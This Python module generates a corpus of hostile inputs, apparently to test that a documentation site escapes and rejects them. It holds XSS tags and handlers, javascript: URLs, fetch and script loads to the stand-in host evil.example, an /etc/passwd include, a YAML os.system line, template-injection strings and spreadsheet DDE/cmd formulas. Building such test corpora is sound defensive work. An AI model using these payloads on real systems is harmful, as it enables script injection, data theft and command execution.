"""A corpus of hostile text, generated here from known vector families (nothing vendored).

Every payload that could become an element, an attribute or a URL carries the marker
:data:`MARK` inside an attribute value, a URL or a script body, so that a page where
one came alive shows the marker somewhere text never goes. :func:`payloads` gives the
printable ones (they must validate and reach the page as text); :data:`FORBIDDEN`
holds characters that records may not contain at all (each must be an error).
"""

from __future__ import annotations

import itertools
import re

MARK = "XSSMARK"
EVIL = "https://evil.example"

# The code a live payload runs: a dialog (caught by Playwright) or a request to another host.
_JS = (
    f"alert('{MARK}')",
    f"confirm(`{MARK}`)",
    f"prompt(/{MARK}/.source)",
    f"fetch('{EVIL}/{MARK}')",
    f"top['al'+'ert']('{MARK}')",
)

_TAGS = (
    "img src=x",
    "image src=x",
    "svg",
    "body",
    "iframe src=about:blank",
    "object data=x",
    "embed src=x",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open",
    "select autofocus",
    "textarea autofocus",
    "marquee",
    "math",
    "style",
    "a href=#",
    "div",
    "x-custom",
    "table background=x",
)

_HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onpointerenter",
    "onanimationstart",
    "onbegin",
    "OnClIcK",
)

_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "java\tscript:",
    "&#106;avascript:",
    "&#x6A;avascript&#x3A;",
    "javascript&colon;",
    "vbscript:",
    "data:text/html;base64,",
    "data:text/html,",
)

_WRAPPERS = (
    "{}",
    '"><{}',
    "'><{}",
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "--><!--{}",
    "]]>{}",
    "`{}`",
    "</p></div>{}",
)


def _element(tag: str, handler: str, js: str) -> str:
    name = tag.split(maxsplit=1)[0]
    attributes = f"{tag} class={MARK} {handler}={js}"
    if name in {"img", "image", "input", "embed"}:
        return f"<{attributes}>"
    return f"<{attributes}>{MARK}</{name}>"


def _tag_vectors() -> list[str]:
    out = [
        _element(tag, handler, js)
        for tag, handler, js in zip(
            _TAGS * 3,
            itertools.cycle(_HANDLERS),
            itertools.cycle(_JS),
            strict=False,
        )
    ]
    out += [f"<script>{js}</script>" for js in _JS] + [
        f"<ScRiPt>alert('{MARK}')</sCrIpT>",
        f"<script src={EVIL}/{MARK}.js></script>",
        f"<script/src=//evil.example/{MARK}.js>",
        f"<svg><script>alert('{MARK}')</script></svg>",
        f"<svg><animate onbegin=alert('{MARK}') attributeName=x dur=1s>",
        f"<svg><a xlink:href=javascript:alert('{MARK}')><text x=20 y=20>{MARK}</text></a></svg>",
        f"<iframe srcdoc=\"<script>alert('{MARK}')</script>\"></iframe>",
        f"<object data=javascript:alert('{MARK}')></object>",
        f'<meta http-equiv="refresh" content="0;url={EVIL}/{MARK}">',
        f'<base href="{EVIL}/{MARK}/">',
        f'<link rel=stylesheet href="{EVIL}/{MARK}.css">',
        f"<style>@import '{EVIL}/{MARK}.css';</style>",
        f'<div style="background:url({EVIL}/{MARK}.png)">{MARK}</div>',
        f"<form action=\"{EVIL}/{MARK}\"><button formaction=javascript:alert('{MARK}')>x</button></form>",
        f"<img src=x:{MARK} onerror=alert('{MARK}')//",
        f"<img src=\"x\" onerror='alert(`{MARK}`)'",
        f"<IMG SRC=\"jav&#x09;ascript:alert('{MARK}');\">",
        f"<img srcset={EVIL}/{MARK}.png>",
        f"<{MARK} onclick=alert(1)>x</{MARK}>",
        f"<a href='javascript:alert(\"{MARK}\")'>{MARK}</a>",
    ]
    return out


def _url_vectors() -> list[str]:
    out = []
    for scheme in _SCHEMES:
        js = f"alert('{MARK}')" if "data:" not in scheme else f"PHNjcmlwdD5hbGVydCgn{MARK}')"
        out += [
            f"[Xem hồ sơ]({scheme}{js})",
            f'<a href="{scheme}{js}">{MARK}</a>',
            f"[Xem][r-{MARK}]\n\n[r-{MARK}]: {scheme}{js}",
        ]
    out += [
        f"![p]({EVIL}/{MARK}.png)",
        f"![p]({EVIL}/{MARK}.png){{: onerror=\"alert('{MARK}')\" }}",
        f"<{EVIL}/{MARK}>",
        f"{EVIL}/{MARK}",
        f"www.evil.example/{MARK}",
        f"[Duyệt ngay]({EVIL}/{MARK})",
        f"[Xem hồ sơ](../../{MARK}/)",
        f"[Xem hồ sơ]({MARK}.md)",
        f"[{MARK}]: {EVIL}/{MARK}\n[{MARK}]",
        f"![][img-{MARK}]\n\n[img-{MARK}]: {EVIL}/{MARK}.png",
        f"[x](<javascript:alert('{MARK}')>)",
        f'[x](javascript:alert("{MARK}") "tiêu đề")',
    ]
    return out


def _markdown_vectors() -> list[str]:
    return [
        f"{{: onclick=\"alert('{MARK}')\" }}",
        f"Văn bản {{: #{MARK} .{MARK} onmouseover=alert('{MARK}') }}",
        f"# Tiêu đề {{: onclick=alert('{MARK}') }}",
        f"**đậm {MARK}**{{: onclick=alert(1) }}",
        '--8<-- "README.md"',
        '--8<-- "/etc/passwd"',
        f'--8<-- "{EVIL}/{MARK}.md"',
        ';--8<-- "mkdocs.yml"',
        "--8<--\nREADME.md\n--8<--",
        f"!!! danger \"{MARK}\"\n    <script>alert('{MARK}')</script>",
        f'??? note "{MARK}"\n    nội dung',
        f"```html\n<script>alert('{MARK}')</script>\n```",
        f"    <script>alert('{MARK}')</script>",
        f"| a | b |\n|---|---|\n| <img src=x class={MARK} onerror=alert(1)> | c |",
        f"- [ ] việc {MARK}\n- [x] xong",
        f"<div markdown=\"1\">[x](javascript:alert('{MARK}'))</div>",
        f'<details markdown="1" class={MARK}><summary>x</summary>y</details>',
        f"*[{MARK}]: chú thích viết tắt",
        f"[^{MARK}]: chú thích\n\nxem[^{MARK}]",
        f"==đánh dấu {MARK}== ^^gạch^^ ~~xóa~~ H~2~O",
        f":material-alert: :{MARK}:",
        f"$$\\href{{javascript:alert('{MARK}')}}{{x}}$$",
        f"<!-- {MARK} -->",
        f"<![CDATA[<script>alert('{MARK}')</script>]]>",
        f"\\<script\\>alert('{MARK}')\\</script\\>",
        "***\n___\n* * *",
        "> trích dẫn\n>> lồng nhau",
        "1. một\n2. hai",
        "Dòng 1  \nDòng 2\n\nĐoạn mới",
    ]


def _entity_vectors() -> list[str]:
    return [
        f"&lt;script&gt;alert('{MARK}')&lt;/script&gt;",
        f"&#60;img src=x class={MARK} onerror=alert(1)&#62;",
        f"&#x3C;svg onload=alert('{MARK}')&#x3E;",
        f"&amp;lt;b class={MARK}&amp;gt;",
        "&nbsp;&copy;&#0;&#xD800;&#1114112;",
        f"%3Cscript%3Ealert('{MARK}')%3C/script%3E",
        f"\\u003cscript\\u003ealert('{MARK}')\\u003c/script\\u003e",
        f"\\x3cscript\\x3ealert('{MARK}')",
        f"＜script＞alert('{MARK}')＜/script＞",  # fullwidth brackets
        f"<scr<script>ipt>alert('{MARK}')</scr</script>ipt>",
    ]


def _template_vectors() -> list[str]:
    return [
        "{{ 7*7 }}",
        "{{ config }}",
        "{{ config.extra }}",
        "{{ page.meta }}",
        f"{{{{ ''.__class__.__mro__[1].__subclasses__() }}}} {MARK}",
        "{% raw %}",
        "{% endraw %}",
        "{% include 'main.html' %}",
        "{% for x in range(99999999) %}x{% endfor %}",
        "{# bình luận #}",
        "${7*7}",
        f"#{{alert('{MARK}')}}",
        "<%= 7*7 %>",
        "{{'{{'}}",
        "[[ 7*7 ]]",
        "{{ '<script>alert(1)</script>' | safe }}",
    ]


def _front_matter_vectors() -> list[str]:
    return [
        "---",
        "---\ntitle: giả\n---",
        f"---\ntitle: <script>alert('{MARK}')</script>\n---",
        "...",
        '"',
        "'",
        '\\"',
        "\\",
        ": ",
        "key: value",
        "# bình luận",
        "- mục",
        "? khóa",
        "&neo",
        "*bí-danh",
        "!!python/object/apply:os.system ['id']",
        "%YAML 1.2",
        "|",
        ">-",
        "@",
        "`",
        "{a: 1}",
        "[1, 2]",
        "null",
        "~",
        "yes",
        "0x1F",
        ".inf",
        "x\u00a0\u00a0\u2003y",
        "search:\n  exclude: true",
        "hide:\n  - navigation",
        "template: main.html",
    ]


def _unicode_vectors() -> list[str]:
    return [
        "\u202ecod.exe\u202c",  # right-to-left override
        f"\u2066{MARK}\u2069\u2067x\u2069\u2068y\u2069",
        "\u200bẩ\u200cn\u200d",  # zero-width space, non-joiner, joiner
        "\u2060\u180e\u00ad",  # word joiner, Mongolian vowel separator, soft hyphen
        "a\ufeffb",  # a BOM in the middle
        "Nguye\u0302\u0303n",  # decomposed diacritics (not NFC)
        "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359",  # stacked combining marks
        "\U0001f600\U0001f4a9\U0001f1fb\U0001f1f3",
        "\ue000\U000f0000",  # private use
        "\u0130\u0131\u017f\u212a",  # case-folding oddities
        "\u3164\u2800",  # blank-looking letters
        "\u061c\u200e\u200f",  # bidi marks
        f"java\u200bscript:alert('{MARK}')",
        f"[x](java\u200bscript:alert('{MARK}'))",
        f"<im\u200bg src=x onerror=alert('{MARK}')>",
    ]


def _spreadsheet_vectors() -> list[str]:
    return [
        f'=HYPERLINK("{EVIL}/{MARK}","Xem")',
        "=1+1",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        '=IMPORTXML(CONCAT("https://evil.example/?", A1), "//a")',
        '=DDE("cmd";"/C calc";"x")',
        f'=WEBSERVICE("{EVIL}/{MARK}")',
    ]


def payloads() -> list[str]:
    """Every printable payload, in a fixed order, without duplicates."""
    families = (
        _tag_vectors(),
        _url_vectors(),
        _markdown_vectors(),
        _entity_vectors(),
        _template_vectors(),
        _front_matter_vectors(),
        _unicode_vectors(),
        _spreadsheet_vectors(),
    )
    wrapped = [
        wrapper.format(vector)
        for wrapper, vector in zip(
            itertools.cycle(_WRAPPERS), _tag_vectors()[::2] + _url_vectors()[::3], strict=False
        )
        if wrapper != "{}"
    ]
    seen: dict[str, None] = {}
    for payload in itertools.chain(*families, wrapped):
        seen.setdefault(payload, None)
    return list(seen)


# Characters a record may not hold at all: C0 controls but tab and line ends, DEL, the
# C1 controls (NEL too), the line and paragraph separators and the noncharacters.
FORBIDDEN = (
    "\x00",
    "\x01",
    "\x02",
    "\x08",
    "\x0b",
    "\x0c",
    "\x1b",
    "\x1f",
    "\x7f",
    "\x80",
    "\x85",
    "\x9b",
    "\x9f",
    "\u2028",
    "\u2029",
    "\ufdd0",
    "\ufdef",
    "\ufffe",
    "\uffff",
    "\U0001fffe",
    "\U0010ffff",
)


# File names a record file might be given (a path-mismatch error shows them on the site,
# in the job summary and in annotations).
FILE_NAMES = (
    f"<img src=x class={MARK} onerror=alert('{MARK}')>.yaml",
    f"[Xem](javascript:alert('{MARK}')).yaml",
    f"\"><svg class={MARK} onload=alert('{MARK}')>.yaml",
    f"{{: onclick=alert('{MARK}') }}.yaml",
    "=1+1.yaml",
    '--8<-- "README.md".yaml',
    "%0A::error::giả.yaml",
    f"&lt;b class={MARK}&gt;.yaml",
)

# The same set as a pattern, as the issue defines printable text (not taken from the code
# under test, so that a gap in its list shows up here).
FORBIDDEN_PATTERN = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\ufdd0-\ufdef"
    + "".join(f"{chr(p * 0x10000 + 0xFFFE)}{chr(p * 0x10000 + 0xFFFF)}" for p in range(17))
    + "]"
)


def groups(items: list[str], limit: int, sep: str = "\n") -> list[list[int]]:
    """Indices of ``items``, grouped in order so that each group joined by ``sep`` holds at
    most ``limit`` characters (an item longer than ``limit`` alone is cut by :func:`join`)."""
    out: list[list[int]] = []
    current: list[int] = []
    size = 0
    for index, item in enumerate(items):
        added = len(item) + (len(sep) if current else 0)
        if current and size + added > limit:
            out.append(current)
            current, size, added = [], 0, len(item)
        current.append(index)
        size += added
    if current:
        out.append(current)
    return out


def join(items: list[str], group: list[int], limit: int, sep: str = "\n") -> str:
    return sep.join(items[i] for i in group)[:limit]
